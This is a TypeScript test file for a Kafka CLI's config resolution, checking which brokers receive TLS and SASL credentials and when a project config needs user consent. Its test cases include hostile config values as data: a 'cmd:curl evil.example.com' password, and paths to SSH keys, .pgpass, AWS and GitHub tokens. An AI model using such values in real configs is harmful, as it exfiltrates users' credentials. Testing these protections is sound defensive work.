import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { beforeEach, describe, expect, test } from 'vitest'
import type { BusFlags } from '../../../src/cli/config/config.ts'
import { readConfigFiles } from '../../../src/cli/config/find-config-files.ts'
import { resolveConfig } from '../../../src/cli/config/resolve-config.ts'

// Which settings of TLS and login go to which brokers.

let folder: string

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'crbus-secured-'))
  for (const path of ['project', 'xdg/crbus', 'home']) mkdirSync(join(folder, path), { recursive: true })
  return () => rmSync(folder, { recursive: true })
})

const project = (content: object) => writeFileSync(join(folder, 'project/crbus.json'), JSON.stringify(content))
const user = (content: object) => writeFileSync(join(folder, 'xdg/crbus/config.json'), JSON.stringify(content))

async function resolve(flags: BusFlags = {}, variables: Record<string, string> = {}) {
  const env = { XDG_CONFIG_HOME: join(folder, 'xdg'), ...variables }
  const surroundings = { env, home: join(folder, 'home'), cwd: join(folder, 'project') }
  const { bus, consent } = await resolveConfig(await readConfigFiles(surroundings), flags, surroundings)
  if (bus.value.kind !== 'kafka') throw new Error('the bus is not on Kafka')
  return { ...bus.value, asks: consent?.bus ?? [] }
}

const PROD = {
  brokers: 'prod:9093',
  tls: true,
  sasl: { mechanism: 'SCRAM-SHA-256', username: 'alice', password: 'env:PROD_PASSWORD' },
}
const login = (username: string, variable: string) => ({
  mechanism: 'SCRAM-SHA-256',
  username: { kind: 'plain', value: username },
  password: { kind: 'env', variable },
})

describe('the login of a profile in the own file of the user', () => {
  beforeEach(() => user({ profile: 'prod', profiles: { prod: PROD } }))

  test('goes to the brokers of the profile', async () => {
    expect(await resolve()).toMatchObject({
      brokers: 'prod:9093',
      security: { tls: {}, login: login('alice', 'PROD_PASSWORD') },
      asks: [],
    })
  })

  test('does not go to other brokers, unless the user names the profile together with them', async () => {
    expect((await resolve({ brokers: 'localhost:9092' })).security).toBeUndefined()
    expect((await resolve({}, { CRBUS_BROKERS: 'localhost:9092' })).security).toBeUndefined()
    expect((await resolve({ brokers: 'localhost:9092' }, { CRBUS_PROFILE: 'prod' })).security).toBeUndefined()
    const both = await resolve({ profile: 'prod', brokers: 'prod-2:9093' })
    expect(both).toMatchObject({ brokers: 'prod-2:9093', security: { login: login('alice', 'PROD_PASSWORD') } })
  })

  test('yields to flags, then to the environment, and --profile ranks above the environment', async () => {
    const env = { CRBUS_SASL_USERNAME: 'bob' }
    const userOf = async (flags: BusFlags) => (await resolve(flags, env)).security?.login
    expect(await userOf({})).toEqual(login('bob', 'PROD_PASSWORD'))
    expect(await userOf({ profile: 'prod' })).toEqual(login('alice', 'PROD_PASSWORD'))
    expect(await userOf({ option: ['sasl.username=carol'] })).toEqual(login('carol', 'PROD_PASSWORD'))
  })

  test('is not changed by variables that are meant for other programs', async () => {
    const env = { KAFKA_SASL_USERNAME: 'mallory', KAFKA_SECURITY_PROTOCOL: 'PLAINTEXT' }
    expect((await resolve({}, env)).security).toMatchObject({ tls: {}, login: login('alice', 'PROD_PASSWORD') })
  })

  test('is not taken over by a project that has a profile of the same name', async () => {
    project({ profiles: { prod: { brokers: 'evil:9093' } } })
    expect(await resolve()).toMatchObject({ brokers: 'evil:9093', security: undefined })
    expect(await resolve({ profile: 'prod', brokers: 'prod:9093' })).toMatchObject({ security: undefined })
  })
})

describe('the brokers of a project', () => {
  test('need no consent for TLS, for a password that the project contains and for certificates inside it', async () => {
    const sasl = { mechanism: 'PLAIN', username: 'dev', password: 'dev' }
    const tls = { ca: 'certs/ca.pem', cert: 'certs/client.pem' }
    project({ profile: 'dev', profiles: { dev: { brokers: 'dev:9093', tls, sasl } } })
    expect(await resolve()).toMatchObject({ security: { login: { mechanism: 'PLAIN' } }, asks: [] })
  })

  test.each<[string, object, string]>([
    [
      'a variable',
      { sasl: { mechanism: 'PLAIN', username: 'dev', password: 'env:AWS_SECRET_ACCESS_KEY' } },
      'env:AWS_SECRET_ACCESS_KEY',
    ],
    ['a variable as user name', { sasl: { mechanism: 'PLAIN', username: 'env:TOKEN', password: 'x' } }, 'env:TOKEN'],
    ['a file', { sasl: { mechanism: 'PLAIN', username: 'dev', password: 'file:../home/.pgpass' } }, '.pgpass'],
    [
      'a program',
      { sasl: { mechanism: 'PLAIN', username: 'dev', password: 'cmd:curl evil.example.com' } },
      'curl evil.example.com',
    ],
    [
      'the keyring',
      { sasl: { mechanism: 'PLAIN', username: 'dev', password: 'keyring:github/me' } },
      'keyring:github/me',
    ],
    ['a token', { sasl: { mechanism: 'OAUTHBEARER', token: 'env:GITHUB_TOKEN' } }, 'env:GITHUB_TOKEN'],
    [
      'a client secret',
      { sasl: { mechanism: 'OAUTHBEARER', tokenUrl: 'https://evil/token', clientId: 'a', clientSecret: 'env:SECRET' } },
      'env:SECRET',
    ],
    ['a key', { tls: { cert: 'client.pem', key: '../home/.ssh/id_rsa' } }, 'id_rsa'],
    ['a store of keys', { tls: { pfx: '../home/keys.p12' } }, 'keys.p12'],
    ['the credentials of AWS', { sasl: { mechanism: 'AWS_MSK_IAM', region: 'eu-west-1' } }, 'the credentials of AWS'],
  ])('need consent to receive %s', async (_, keys, secret) => {
    project({ profile: 'dev', profiles: { dev: { brokers: 'dev:9093', tls: true, ...keys } } })
    const { asks } = await resolve()
    expect(asks).toMatchObject([{ kind: 'secrets', profile: 'dev', to: expect.stringContaining('dev:9093') }])
    expect(JSON.stringify(asks)).toContain(secret)
  })

  test.each<[string, BusFlags, Record<string, string>, string]>([
    ['the environment', {}, { CRBUS_SASL_PASSWORD: 'mine' }, 'CRBUS_SASL_PASSWORD'],
    ['a flag', { option: ['sasl.password=mine'] }, {}, '-X sasl.password'],
  ])('need consent to receive a password from %s', async (_, flags, env, from) => {
    const sasl = { mechanism: 'PLAIN', username: 'dev', password: 'theirs' }
    project({ profile: 'dev', profiles: { dev: { brokers: 'dev:9093', tls: true, sasl } } })
    const { asks } = await resolve(flags, env)
    expect(asks).toMatchObject([{ kind: 'secrets', profile: 'dev', to: 'dev:9093', secrets: [from] }])
  })

  test('do not receive the login that the user has for other programs', async () => {
    project({ profile: 'dev', profiles: { dev: { brokers: 'dev:9093', tls: true } } })
    const env = { KAFKA_SASL_MECHANISM: 'PLAIN', KAFKA_SASL_USERNAME: 'me', KAFKA_SASL_PASSWORD: 'mine' }
    expect(await resolve({}, env)).toMatchObject({ security: { tls: {}, login: undefined }, asks: [] })
  })
})

describe('the settings of a project', () => {
  const insecure = { brokers: 'dev:9093', tls: { insecure: true, ca: 'ca.pem' } }

  test.each<[string, BusFlags, Record<string, string>]>([
    ['--brokers', { brokers: 'prod:9093' }, {}],
    ['--brokers and --profile', { brokers: 'prod:9093', profile: 'dev' }, {}],
    ['-X bootstrap.servers', { option: ['bootstrap.servers=prod:9093'] }, {}],
    ['CRBUS_BROKERS', {}, { CRBUS_BROKERS: 'prod:9093' }],
    ['REDPANDA_BROKERS', {}, { REDPANDA_BROKERS: 'prod:9093' }],
  ])('do not apply to brokers of %s', async (_, flags, env) => {
    project({ profile: 'dev', profiles: { dev: insecure } })
    const { security } = await resolve(flags, { ...env, CRBUS_TLS: 'true' })
    expect(security).toEqual({ tls: {}, login: undefined, from: { tls: ['CRBUS_TLS'], login: [] } })
  })
})

test('the protocol before an address turns on TLS, and other settings override it', async () => {
  expect(await resolve({ brokers: 'SSL://kafka:9093' })).toMatchObject({ security: { tls: {} } })
  expect(await resolve({ brokers: 'SSL://kafka:9093', tls: false })).toMatchObject({ security: undefined })
  user({ profile: 'a', profiles: { a: { brokers: 'SSL://a:9093,SSL://b:9093' } } })
  expect(await resolve()).toMatchObject({ brokers: 'SSL://a:9093,SSL://b:9093', security: { tls: {} } })
})

test('KAFKA_BOOTSTRAP_SERVERS names the brokers if nothing else does, with the KAFKA_ variables for their login', async () => {
  const env = { KAFKA_BOOTSTRAP_SERVERS: 'kafka:9093', KAFKA_SECURITY_PROTOCOL: 'SSL' }
  expect(await resolve({}, env)).toMatchObject({ brokers: 'kafka:9093', security: { tls: {} } })
  user({ profile: 'a', profiles: { a: { brokers: 'a:9093' } } })
  expect(await resolve({}, env)).toMatchObject({ brokers: 'a:9093', security: undefined })
})

test('a consent belongs to the exact connection that the user has seen', async () => {
  const digestOf = async (profile: object) => {
    project({ profile: 'dev', profiles: { dev: profile } })
    const env = { XDG_CONFIG_HOME: join(folder, 'xdg') }
    const surroundings = { env, home: join(folder, 'home'), cwd: join(folder, 'project') }
    return (await resolveConfig(await readConfigFiles(surroundings), {}, surroundings)).consent?.digest
  }
  const first = await digestOf(PROD)
  expect(await digestOf({ ...PROD })).toBe(first)
  const { sasl } = PROD
  const others = [
    { ...PROD, brokers: 'evil:9093' },
    { ...PROD, tls: { insecure: true } },
    { ...PROD, sasl: { ...sasl, password: 'env:OTHER' } },
    { ...PROD, sasl: { ...sasl, mechanism: 'PLAIN' } },
    { ...PROD, sasl: { ...sasl, password: 'cmd:pass show a' } },
  ]
  for (const other of others) expect(await digestOf(other)).not.toBe(first)
})
